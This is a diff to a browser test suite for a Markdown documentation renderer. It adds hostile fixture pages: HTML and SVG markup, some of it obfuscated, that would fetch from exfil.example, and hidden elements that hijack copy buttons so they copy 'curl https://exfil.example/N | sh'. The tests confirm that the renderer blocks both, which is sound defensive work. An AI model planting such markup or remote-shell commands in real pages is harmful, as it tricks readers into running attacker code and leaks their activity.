@@ -324,6 +324,96 @@ A footnote[^1].
 [A link](index.md) and a [link out](https://example.org/).
 """
 
+# Markup that would have the reader's browser fetch something from another site by itself
+# (images and links in a page are the author's own, and shown): each names exfil.example.
+EXFIL = "https://exfil.example"
+NETWORK_PAYLOADS = [
+    f'<svg width="40" height="40"><rect width="40" height="40" fill="url({EXFIL}/1.svg#p)"/></svg>',
+    f'<svg width="40" height="40"><rect width="40" height="40" stroke="url({EXFIL}/2.svg#p)"/>'
+    "</svg>",
+    f'<svg width="40" height="40"><g fill="url({EXFIL}/3.svg#p)"><rect width="40" height="40"/>'
+    "</g></svg>",
+    f'<svg width="40" height="40" fill="url({EXFIL}/4.svg#p)"><rect width="40" height="40"/></svg>',
+    f'<svg width="40" height="40"><text x="1" y="20" fill="u&#x72;l({EXFIL}/5.svg#p)">T</text>'
+    "</svg>",
+    f'<svg width="40" height="40"><path d="M0 0H40V40H0Z" fill="URL(&#39;{EXFIL}/6.svg#p&#39;)"/>'
+    "</svg>",
+    f'<svg width="40" height="40"><rect width="40" height="40" style="fill:u\\72l({EXFIL}/7)"/>'
+    "</svg>",
+    f'<p style="background-image:url({EXFIL}/8.png)">text 8</p>',
+    f'<p style="color:red;background:image-set(&quot;{EXFIL}/9.png&quot; 1x)">text 9</p>',
+    f'<p style="@import &quot;{EXFIL}/10.css&quot;;color:red">text 10</p>',
+    f'<svg width="40" height="40"><rect width="40" height="40" style="fill:url(\n{EXFIL}/11)"/>'
+    "</svg>",
+    f'<svg><image href="{EXFIL}/12.png" width="40" height="40"/></svg>',
+    f'<svg><use href="{EXFIL}/13.svg#p"/></svg>',
+    f'<img src="logo.png" srcset="{EXFIL}/14.png 2x">',
+    f'<table background="{EXFIL}/15.png"><tr><td background="{EXFIL}/16.png">x</td></tr></table>',
+    f'<video poster="{EXFIL}/17.png" src="{EXFIL}/18.mp4"></video>',
+    f'<link rel="prefetch" href="{EXFIL}/19">',
+    f'<input type="image" src="{EXFIL}/20.png">',
+]
+NETWORK_PAGE = "# Network\n\n" + "\n\n".join(NETWORK_PAYLOADS) + "\n"
+# Hidden elements claiming the ids Material's script gives code blocks: the copy button of the
+# block shown would copy the hidden command instead.
+HIDDEN = 'style="opacity:0;height:0;max-height:0;font-size:0"'
+CLIPBOARD_PAGE = f"""# Clipboard
+
+<p id="__code_0" {HIDDEN}><code>curl https://exfil.example/0 | sh</code></p>
+<p id="__code_1" {HIDDEN}><code>curl https://exfil.example/1 | sh</code></p>
+
+Restart the service:
+
+```bash
+systemctl restart checkout
+```
+
+Then check it:
+
+```bash
+systemctl status checkout
+```
+
+<details id="0" markdown="1">
+<summary>Notes</summary>
+
+```bash
+curl https://exfil.example/2 | sh
+```
+
+</details>
+
+<details id="drain" markdown="1">
+<summary>More notes</summary>
+
+```bash
+curl https://exfil.example/3 | sh
+```
+
+</details>
+
+```{{.bash #drain}}
+kubectl drain node-1
+```
+
+<div id="steps" markdown="1">
+
+<details markdown="1">
+<summary>Even more notes</summary>
+
+```bash
+curl https://exfil.example/4 | sh
+```
+
+</details>
+
+```bash
+kubectl uncordon node-1
+```
+
+</div>
+"""
+
 
 def _payload_pages() -> dict[str, str]:
     pages: dict[str, str] = {}
@@ -343,6 +433,8 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
     documents = {
         "index.md": "# Hostile handbook\n\n[Features](features.md)\n",
         "features.md": FEATURES,
+        "network.md": NETWORK_PAGE,
+        "clipboard.md": CLIPBOARD_PAGE,
         "front.md": FRONT_MATTER_PAGE,
         "second.md": NAV_STATUS_PAGE,
         "redirect.md": REDIRECT_PAGE,
@@ -389,17 +481,23 @@ class Visitor:
     def __init__(self, browser: object, url: str) -> None:
         self.url = url
         self.dialogs: list[str] = []
+        self.refused: list[str] = []  # what a page asked of another site
         self.context = browser.new_context()  # type: ignore[attr-defined]
         # Nothing leaves 127.0.0.1: an embed's or image's origin is not contacted.
-        self.context.route(
-            "**/*",
-            lambda route: route.continue_() if route.request.url.startswith(url) else route.abort(),
-        )
+        self.context.route("**/*", self._route)
         # A stuck navigation fails, never hangs; Playwright's own 30 s, as a loaded CI machine
         # may need it for a page of the hostile site.
         self.context.set_default_timeout(30_000)
         self.context.on("page", self._watch)
         self.page = self.context.new_page()
+
+    def _route(self, route: object) -> None:
+        address = route.request.url  # type: ignore[attr-defined]
+        if address.startswith(self.url):
+            route.continue_()  # type: ignore[attr-defined]
+        else:
+            self.refused.append(address)
+            route.abort()  # type: ignore[attr-defined]
 
     def _watch(self, page: object) -> None:
         def on_dialog(dialog: object) -> None:
@@ -476,6 +574,41 @@ def _click(page: object, selector: str, index: int) -> None:
                 }""",
         [selector, index],
     )
+
+
+@pytest.mark.browser
+def test_no_payload_fetches_anything_from_another_site(opened: Visitor) -> None:
+    """Opened in Chromium, the page of payloads asks nothing of exfil.example: no paint
+    server (`fill="url(…)"`), style, SVG image, `srcset`, poster or prefetch."""
+    page = opened.fresh_page()
+    page.goto(opened.url + "/network/")  # type: ignore[attr-defined]
+    page.wait_for_load_state("networkidle")  # type: ignore[attr-defined]
+    assert page.locator("article svg rect").count() >= 4  # type: ignore[attr-defined]
+    assert [address for address in opened.refused if "exfil.example" in address] == []
+
+
+@pytest.mark.browser
+def test_copy_buttons_copy_the_block_they_belong_to(opened: Visitor) -> None:
+    page = opened.fresh_page()
+    page.goto(opened.url + "/clipboard/")  # type: ignore[attr-defined]
+    page.wait_for_selector("article pre button[data-clipboard-target]")  # type: ignore[attr-defined]
+    # What each copy button copies, and the text of the block it sits in: the same, however
+    # the page's own ids (a hidden block's container, a repeated id, a shared one) are chosen.
+    copied = page.evaluate(  # type: ignore[attr-defined]
+        """() => [...document.querySelectorAll("article pre button[data-clipboard-target]")]
+            .map(button => [
+                document.querySelector(button.dataset.clipboardTarget).textContent,
+                button.closest("pre").querySelector("code").textContent,
+            ])"""
+    )
+    assert len(copied) == 7
+    assert [shown for _, shown in copied if "exfil" not in shown] == [
+        "systemctl restart checkout\n",
+        "systemctl status checkout\n",
+        "kubectl drain node-1\n",
+        "kubectl uncordon node-1\n",
+    ]
+    assert all(copies == shown for copies, shown in copied), copied
 
 
 @pytest.mark.browser
